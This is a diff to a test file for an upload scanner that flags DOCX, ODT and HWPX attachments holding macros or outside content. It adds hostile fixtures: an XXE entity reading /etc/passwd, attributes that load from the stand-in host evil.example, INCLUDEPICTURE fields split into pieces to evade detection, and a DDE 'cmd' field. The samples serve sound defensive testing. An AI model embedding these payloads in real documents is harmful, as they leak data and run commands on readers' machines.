@@ -2,6 +2,7 @@
 
 from core.uploads import problems
 from tests.attachments import docx_entries, hwpx_entries, odt_entries, package, relationship
+from tests.core.uploads.field_parts import FETCHING, field, nested_field, simple_field
 
 MACROS, OUTSIDE, BROKEN = problems.MACROS, problems.OUTSIDE_CONTENT, problems.BROKEN
 ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
@@ -23,11 +24,46 @@ RUNNING = (
     '<a {}="macro:///S.M.x"/>',
     '<a {}=" VND.sun.star.Script:x"/>',
 )
-FETCHING = (
-    'INCLUDEPICTURE "http://evil.example/x.png" \\d', ' includetext https://evil.example/x',
-    'INCLUDEPICTURE "\\\\\\\\evil.example\\x.png"', 'LINK Word.Document.8 "http://evil.example/x.doc"',
-    'RD "file://evil.example/x.doc"', 'INCLUDEPICTURE \\d "http://evil.example/x.png"',
-)  # fmt: skip
+# Attributes that load something, by the schema of OpenDocument 1.3, of XForms, MathML and SVG in it.
+LOADING_ATTRIBUTES = (
+    '<instance src="{}"/>',
+    '<model schema="{}"/>',
+    '<model schema="#inline {}"/>',
+    '<model schema="a.xsd&#10;{}"/>',
+    '<submission action="{}"/>',
+    '<submission resource="{}"/>',
+    '<load resource="{}"/>',
+    '<label src="{}"/>',
+    "<resource value=\"'{}'\"/>",
+    '<image f:image-data="{}"/>',
+    '<button f:image-data="{}"/>',
+    '<image-frame f:image-data="{}"/>',
+    '<applet f:archive="{}"/>',
+    '<applet f:archive="a.jar,{}"/>',
+    '<applet f:code="{}"/>',
+    '<applet f:object="{}"/>',
+    '<form f:datasource="{}"/>',
+    '<mglyph src="{}"/>',
+    '<math altimg="{}"/>',
+    '<script href="{}"/>',
+    '<link href="{}"/>',
+    '<iframe src="{}"/>',
+    '<video poster="{}"/>',
+    '<image srcset="a.png 1x, {} 2x"/>',
+    '<object data="{}"/>',
+    '<x xml:base="{}"/>',
+    '<p style="background:url({})"/>',
+    "<rect fill=\"URL('{}')\"/>",
+    "<style>a {{ background: url( {} ) }}</style>",
+    '<style>@import "{}";</style>',
+    '<?xml-stylesheet type="text/css" href="{}"?>',
+    "<table-cell f:formula=\"of:=['{}'#$Sheet1.A1]\"/>",
+    '<table-cell f:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;{}&quot;)"/>',
+)
+LOADING_WORD_PARTS = (
+    '<webVideoPr embeddedHtml="&lt;iframe src=&apos;https://evil.example/&apos;>"/>',
+    '<mailMerge><connectString val="Provider=x;Data Source=\\\\evil.example\\a.xlsx"/></mailMerge>',
+)
 
 
 def docx(**entries) -> tuple:
@@ -35,22 +71,15 @@ def docx(**entries) -> tuple:
 
 
 def odt(name: str, element: str) -> tuple:
-    root = f'<office xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:l="http://www.w3.org/1999/xlink">{element}</office>'
+    names = (
+        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:l="http://www.w3.org/1999/xlink" xmlns:f="urn:f"'
+    )
+    root = f"<office {names}>{element}</office>"
     return "mou.odt", package(odt_entries(**{name: root}))
 
 
 def hwpx(**entries) -> tuple:
     return "mou.hwpx", package(hwpx_entries(**entries))
-
-
-def field(*pieces: str) -> str:
-    """A document with a field of Word, its instruction in so many pieces."""
-    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
-    return f'<w:p xmlns:w="urn:w"><w:t>See</w:t><w:fldChar/>{runs}<w:fldChar/></w:p>'
-
-
-def simple_field(instruction: str) -> str:
-    return f"<p><fldSimple instr='{instruction}'/></p>"
 
 
 def relationships(*args: str) -> str:
@@ -67,6 +96,60 @@ HOSTILE_PARTS = {
         f"ODT with a picture from {address}": (*odt("content.xml", f'<image l:href="{address}"/>'), OUTSIDE)
         for address in ADDRESSES
     },
+    **{
+        f"ODT with {element} of {address}": (*odt(name, element.format(address)), OUTSIDE)
+        for element in LOADING_ATTRIBUTES
+        for name, address in (("content.xml", ADDRESSES[0]), ("Object 1/styles.xml", r"\\\\evil.example\x"))
+        if ("WEBSERVICE" not in element or ":" in address)
+        and not ("image srcset" in element and ":" not in address)
+    },
+    "ODT with a picture that a button has from a host": (
+        *odt("content.xml", '<button f:image-data="ftp://evil.example/x"/>'),
+        OUTSIDE,
+    ),
+    "ODT with a formula in a workbook": (
+        *docx(
+            **{
+                "word/a.xlsx": package(
+                    {"[Content_Types].xml": "<Types/>", "xl/s.xml": "<c><f>WEBSERVICE(A1)</f></c>"}
+                )
+            }
+        ),
+        OUTSIDE,
+    ),
+    **{f"DOCX with {row}": (*docx(**{"word/document.xml": row}), OUTSIDE) for row in LOADING_WORD_PARTS},
+    **{
+        f"DOCX with {kind} by its relationship": (
+            *docx(relationships=relationship(kind, "x.xml", "Internal")),
+            MACROS,
+        )
+        for kind in ("webextension", "webextensiontaskpanes")
+    },
+    **{
+        f"HWPX with {row}": (*hwpx(**{"Contents/section0.xml": row}), OUTSIDE)
+        for row in (
+            '<video videotype="Web" tag="&lt;iframe src=&quot;https://evil.example/&quot;>"/>',
+            '<linkinfo path="//evil.example/x.hwpx"/>',
+            '<img src="http://evil.example/x"/>',
+            '<image href="http://evil.example/x"/>',
+        )
+    },
+    **{
+        f"DOCX with the fields {''.join(pieces)}": (
+            *docx(**{"word/document.xml": nested_field(*pieces)}),
+            OUTSIDE,
+        )
+        for pieces in (
+            ("{", "INCLUDEPICTURE ", "{", "QUOTE 104 116 116 112", "|", "}", "|", "}"),
+            ("{", 'INCLUDEPICTURE "ht', "{", 'QUOTE "tp"', "|", "}", '://evil.example/x"', "}"),
+            ("{", "{", "QUOTE INCLUDEPICTURE", "|", "}", ' "http://evil.example/x"', "|", "}"),
+            ("{", "PAGE", "|", "{", "INCLUDE", 'PICTURE "http', '://evil.example/x"', "|", "}", "}"),
+            ("{", "INCLUDEPICTURE ", "|", '"http://evil.example/x"', "}"),
+            ("{", 'INCLUDEPICTURE "http://evil.example/x"'),
+            ("}", 'INCLUDEPICTURE "http://evil.example/x"', "}"),
+        )
+    },
+    "DOCX with DDE after words": (*docx(**{"word/document.xml": field("PAGE D", "DE cmd")}), MACROS),
     **{f"ODT that runs {row}": (*odt("content.xml", row.format("xlink:href")), MACROS) for row in RUNNING},
     "ODT with a macro by name": (*odt("content.xml", '<event-listener macro-name="x"/>'), MACROS),
     "ODT with a field that runs a macro": (*odt("content.xml", '<execute-macro name="x"/>'), MACROS),
@@ -145,8 +228,10 @@ INERT_PARTS = {
             'HYPERLINK "https://example.org"',
             'INCLUDEPICTURE "C:\\\\Users\\\\Kim\\\\seal.png" \\* MERGEFORMAT',
             'INCLUDEPICTURE "cid:image001.png"',
+            "INCLUDEPICTURE \u201cC:\\Users\\Kim\\seal.png\u201d",
             "PAGE \\* MERGEFORMAT",
             "LINKS http://example.org",
+            'HYPERLINK "https://example.org/link" \\o "See the LINK http://example.org"',
             "",
         )
     },
@@ -161,6 +246,21 @@ INERT_PARTS = {
             '<object xlink:href="./Object 1"/>',
             '<image xlink:href=""/>',
             '<image href="#a"/>',
+            '<document-content g:transformation="http://docs.oasis-open.org/x.xsl" xmlns:g="urn:g"/>',
+            '<bibliography-mark f:url="https://example.org/"/>',
+            '<user-field-decl f:string-value="https://example.org/"/>',
+            '<frame f:name="https://example.org/seal.png"/>',
+            '<form xlink:href="https://example.org/"/>',
+            '<form f:datasource="Bibliography"/>',
+            '<model schema="#types a.xsd"/>',
+            '<bind nodeset="//a/b" type="xsd:string"/>',
+            '<applet f:code="Main" f:archive="a.jar"/>',
+            '<button f:image-data="Pictures/a.png"/>',
+            '<instance src="data.xml"/>',
+            '<rect fill="url(#a)" style="fill:url(#b)"/>',
+            "<style>a {{ fill: url(#b) }}</style>",
+            '<table-cell f:formula="of:=HYPERLINK(&quot;https://example.org&quot;;&quot;x&quot;)"/>',
+            "<table-cell f:formula=\"of:=['file:///C:/x.ods'#$Sheet1.A1]\"/>",
             "<scripts/>",
             '<event-listener macro-name=""/>',
         )
@@ -171,6 +271,40 @@ INERT_PARTS = {
             None,
         )
         for address in ("BinData/image1.png", r"C:\\Users\\Kim\\seal.png", "D:/seal.png", "")
+    },
+    **{
+        f"DOCX with the harmless fields {''.join(pieces)}": (
+            *docx(**{"word/document.xml": nested_field(*pieces)}),
+            None,
+        )
+        for pieces in (
+            ("{", 'INCLUDEPICTURE "cid:1"', "|", "}", "{", 'HYPERLINK "https://example.org"', "|", "}"),
+            (
+                "{",
+                "IF ",
+                "{",
+                "MERGEFIELD x",
+                "}",
+                ' = "y" ',
+                "{",
+                'INCLUDEPICTURE "C:\\a"',
+                "}",
+                "{",
+                'INCLUDEPICTURE "C:\\b"',
+                "}",
+                "}",
+            ),
+            ("{", 'TOC \\o "1-3"', "|", "{", "PAGEREF _Toc1", "|", "}", "}"),
+        )
+    },
+    **{
+        f"HWPX with {row}": (*hwpx(**{"Contents/section0.xml": row}), None)
+        for row in (
+            '<pic href="https://example.org/;1;0;0;"/>',
+            '<video videotype="Local" tag=""/>',
+            '<linkinfo path="C:/Kim/x.hwpx"/>',
+            '<fieldBegin type="HYPERLINK"><stringParam name="Command">https\\://example.org;1;0;0;</stringParam></fieldBegin>',
+        )
     },
     "HWPX with a preview that begins like XML": (*hwpx(**{"Preview/PrvText.txt": "<합의서> & <"}), None),
     "ODT with an empty part": (
